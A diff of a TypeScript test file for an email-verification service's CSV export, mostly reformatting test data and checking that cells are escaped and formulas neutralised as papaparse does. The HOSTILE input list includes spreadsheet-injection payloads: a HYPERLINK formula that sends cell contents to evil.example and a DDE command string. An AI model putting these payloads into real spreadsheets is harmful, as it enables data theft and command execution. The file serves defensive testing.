@@ -25,10 +25,61 @@ function random(seed: number) {
 }
 
 const HOSTILE = [
-  '', ' ', '  ', 'a', 'a b', ' a', 'a ', ' a ', ',', 'a,b', '"', '""', 'a"b', '"a"', '\r', '\n', '\r\n', 'a\r\nb', 'a\nb',
-  '=1+1', '+1', '-1', '-', '@', '@SUM(A1)', '\t=1', '\r=1', '=a"b,c', '=1\n=2', ' =1', '=1 ', 'a=1', "'=1", '\ufeff', 'a\ufeffb',
-  '\ufeff=1', '\u2028', '=1\u2028', 'ж😀', '😀,', '\uD800', 'a\u0000b', '\t', 'a\tb', '\u000b', '\u001f', 'true', 'false', 'null',
-  '0', '-0', '1e3', '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", 'x'.repeat(5000),
+  '',
+  ' ',
+  '  ',
+  'a',
+  'a b',
+  ' a',
+  'a ',
+  ' a ',
+  ',',
+  'a,b',
+  '"',
+  '""',
+  'a"b',
+  '"a"',
+  '\r',
+  '\n',
+  '\r\n',
+  'a\r\nb',
+  'a\nb',
+  '=1+1',
+  '+1',
+  '-1',
+  '-',
+  '@',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '=a"b,c',
+  '=1\n=2',
+  ' =1',
+  '=1 ',
+  'a=1',
+  "'=1",
+  '\ufeff',
+  'a\ufeffb',
+  '\ufeff=1',
+  '\u2028',
+  '=1\u2028',
+  'ж😀',
+  '😀,',
+  '\uD800',
+  'a\u0000b',
+  '\t',
+  'a\tb',
+  '\u000b',
+  '\u001f',
+  'true',
+  'false',
+  'null',
+  '0',
+  '-0',
+  '1e3',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  'x'.repeat(5000),
   '",\r\n'.repeat(100),
 ];
 const ALPHABET = ['a', 'Z', '0', ' ', ',', '"', '\r', '\n', '=', '+', '-', '@', '\t', "'", '\ufeff', 'ж', '😀', '\u2028', ';', '\\', '\u0000'];
@@ -100,16 +151,27 @@ describe('resultLine', () => {
   it('writes every combination of the seven flags as true/false in column order', () => {
     const values = { email: 'a@b.com', risk_level: 'low', reason: 'accepted_email', status: 'deliverable', score: 95, provider: 'b.com' };
     for (let flags = 0; flags < 128; flags++) expect(resultLine(pageRow(values, flags))).toBe(papaRow(values, flags));
-    expect(resultLine(pageRow({ email: 'a@b.com', risk_level: 'low', reason: 'r', status: 's', score: 95, provider: 'b.com', sub_reason: 'greylisted', mailbox_provider: 'google' }, 0b1000001)))
-      .toBe('a@b.com,true,false,low,r,s,95,b.com,false,false,false,false,,true,greylisted,google\r\n');
+    expect(
+      resultLine(
+        pageRow(
+          { email: 'a@b.com', risk_level: 'low', reason: 'r', status: 's', score: 95, provider: 'b.com', sub_reason: 'greylisted', mailbox_provider: 'google' },
+          0b1000001,
+        ),
+      ),
+    ).toBe('a@b.com,true,false,low,r,s,95,b.com,false,false,false,false,,true,greylisted,google\r\n');
   });
 
   it('escapes every string cell as papaparse does (random hostile rows)', () => {
     const next = random(7);
     for (let i = 0; i < 10_000; i++) {
       const values: Named = {
-        email: randomString(next), risk_level: randomString(next), reason: randomString(next), status: randomString(next),
-        score: Math.round((next() - 0.5) * 300), provider: randomString(next), did_you_mean: next() < 0.5 ? null : randomString(next),
+        email: randomString(next),
+        risk_level: randomString(next),
+        reason: randomString(next),
+        status: randomString(next),
+        score: Math.round((next() - 0.5) * 300),
+        provider: randomString(next),
+        did_you_mean: next() < 0.5 ? null : randomString(next),
       };
       const flags = Math.floor(next() * 128);
       Object.assign(values, { sub_reason: next() < 0.5 ? null : randomString(next), mailbox_provider: next() < 0.5 ? null : randomString(next) });
@@ -129,13 +191,31 @@ describe.each(DIALECTS)('resultsCsv on %s', (dialect) => {
   async function reference(jobId: string, withUpload: boolean, bucket?: Bucket, format?: { delimiter: string; newline: string }): Promise<string> {
     const results = await database.prisma.verification.findMany({ where: { jobId }, orderBy: { idx: 'asc' } });
     const items = new Map((await database.prisma.jobItem.findMany({ where: { jobId } })).map((item) => [item.idx, item.row]));
-    const rows = results.filter((r) => !bucket || bucketOf(r.status) === bucket).map((r) => {
-      const uploaded = withUpload ? (JSON.parse(items.get(r.idx!) ?? '[]') as string[]) : [];
-      const padded = withUpload ? uploadColumns.map((_, i) => uploaded[i] ?? '') : [];
-      return [...padded, r.email, r.valid, r.deliverable, r.riskLevel, r.reason, r.status, r.score, r.provider,
-        r.disposable, r.role, r.free, r.catchAll, r.didYouMean ?? '', r.cached,
-        r.subReason ?? '', r.mailboxProvider ?? ''];
-    });
+    const rows = results
+      .filter((r) => !bucket || bucketOf(r.status) === bucket)
+      .map((r) => {
+        const uploaded = withUpload ? (JSON.parse(items.get(r.idx!) ?? '[]') as string[]) : [];
+        const padded = withUpload ? uploadColumns.map((_, i) => uploaded[i] ?? '') : [];
+        return [
+          ...padded,
+          r.email,
+          r.valid,
+          r.deliverable,
+          r.riskLevel,
+          r.reason,
+          r.status,
+          r.score,
+          r.provider,
+          r.disposable,
+          r.role,
+          r.free,
+          r.catchAll,
+          r.didYouMean ?? '',
+          r.cached,
+          r.subReason ?? '',
+          r.mailboxProvider ?? '',
+        ];
+      });
     const table = [[...(withUpload ? uploadColumns : []), ...RESULT_COLUMNS], ...rows];
     if (!format) return papa(table);
     return `${Papa.unparse(table, { escapeFormulae: FORMULA_START, ...format })}${format.newline}`;
@@ -151,28 +231,58 @@ describe.each(DIALECTS)('resultsCsv on %s', (dialect) => {
     const next = random(count);
     const statuses = ['deliverable', 'undeliverable', 'risky', 'catch-all', 'unknown', '=status', 'a,b'];
     const clean = (s: string) => s.replaceAll('\u0000', '\uFFFD').replace(/[\uD800-\uDFFF]/g, '?'); // PostgreSQL text cannot hold these
-    const emails = Array.from({ length: count }, (_, i) => (i < HOSTILE.length ? clean(HOSTILE[i]!) : i < 2000 ? clean(randomString(next)) : `user${i}@example.com`));
-    const rows = withUpload ? emails.map((email, i) => (i % 5 === 4 ? [`n${i}`] : [clean(randomString(next)), email, clean(HOSTILE[i % HOSTILE.length]!)])) : undefined;
+    const emails = Array.from({ length: count }, (_, i) =>
+      i < HOSTILE.length ? clean(HOSTILE[i]!) : i < 2000 ? clean(randomString(next)) : `user${i}@example.com`,
+    );
+    const rows = withUpload
+      ? emails.map((email, i) => (i % 5 === 4 ? [`n${i}`] : [clean(randomString(next)), email, clean(HOSTILE[i % HOSTILE.length]!)]))
+      : undefined;
     await database.prisma.job.create({
       data: {
-        id: jobId, userId: 'u', sandbox: true, status: 'completed', totalEmails: count, validEmails: count, invalidEmails: 0,
+        id: jobId,
+        userId: 'u',
+        sandbox: true,
+        status: 'completed',
+        totalEmails: count,
+        validEmails: count,
+        invalidEmails: 0,
         ...storedUpload(withUpload ? { columns: uploadColumns, filename: 'list.csv' } : {}),
       },
     });
-    await insertJobItems(database.prisma, dialect, jobId, { emails, rows: rows?.map((row) => JSON.stringify(row)), duplicateOf: new Int32Array(count).fill(-1) });
+    await insertJobItems(database.prisma, dialect, jobId, {
+      emails,
+      rows: rows?.map((row) => JSON.stringify(row)),
+      duplicateOf: new Int32Array(count).fill(-1),
+    });
     const verifications = emails.map((email, idx) => {
       const flags = idx % 128;
       const flag = (name: ResultColumnName) => Boolean(flags & (1 << FLAG_COLUMNS.indexOf(name)));
       const hostile = idx < 2000;
       const record: VerificationRecord = {
-        user_id: 'u', job_id: jobId, idx, email, sandbox: true, source: 'bulk', status: statuses[idx % statuses.length],
-        valid: flag('valid'), deliverable: flag('deliverable'), risk_level: hostile ? clean(randomString(next)) : 'low',
-        reason: hostile ? clean(randomString(next)) : 'accepted_email', score: (idx % 301) - 100, confidence: 50,
-        provider: hostile ? clean(randomString(next)) : 'example.com', disposable: flag('disposable'), role: flag('role'),
-        free: flag('free'), catch_all: flag('catch_all'), did_you_mean: idx % 3 === 0 ? null : clean(randomString(next)),
-        cached: flag('cached'), created_at: 0,
+        user_id: 'u',
+        job_id: jobId,
+        idx,
+        email,
+        sandbox: true,
+        source: 'bulk',
+        status: statuses[idx % statuses.length],
+        valid: flag('valid'),
+        deliverable: flag('deliverable'),
+        risk_level: hostile ? clean(randomString(next)) : 'low',
+        reason: hostile ? clean(randomString(next)) : 'accepted_email',
+        score: (idx % 301) - 100,
+        confidence: 50,
+        provider: hostile ? clean(randomString(next)) : 'example.com',
+        disposable: flag('disposable'),
+        role: flag('role'),
+        free: flag('free'),
+        catch_all: flag('catch_all'),
+        did_you_mean: idx % 3 === 0 ? null : clean(randomString(next)),
+        cached: flag('cached'),
+        created_at: 0,
         sub_reason: idx % 4 === 0 ? null : hostile ? clean(randomString(next)) : 'greylisted',
-        mailbox_provider: idx % 4 <= 1 ? null : hostile ? clean(randomString(next)) : 'google', details: '{}',
+        mailbox_provider: idx % 4 <= 1 ? null : hostile ? clean(randomString(next)) : 'google',
+        details: '{}',
       };
       return verificationValues(record);
     });
@@ -206,7 +316,7 @@ describe.each(DIALECTS)('resultsCsv on %s', (dialect) => {
     expect(await download('job_upload', bucket)).toBe(await reference('job_upload', true, bucket));
   });
 
-  it.each([';', '\t', '|'] as const)('keeps an upload\'s delimiter %j, BOM and LF line ends as papaparse writes them', async (delimiter) => {
+  it.each([';', '\t', '|'] as const)("keeps an upload's delimiter %j, BOM and LF line ends as papaparse writes them", async (delimiter) => {
     const job = await database.prisma.job.findUniqueOrThrow({ where: { id: 'job_upload' } });
     const upload = storedUpload({ columns: uploadColumns, filename: 'list.csv', format: { delimiter, bom: true, newline: '\n', sheet: null } });
     // Response#text() would drop the BOM: decode the bytes as they are
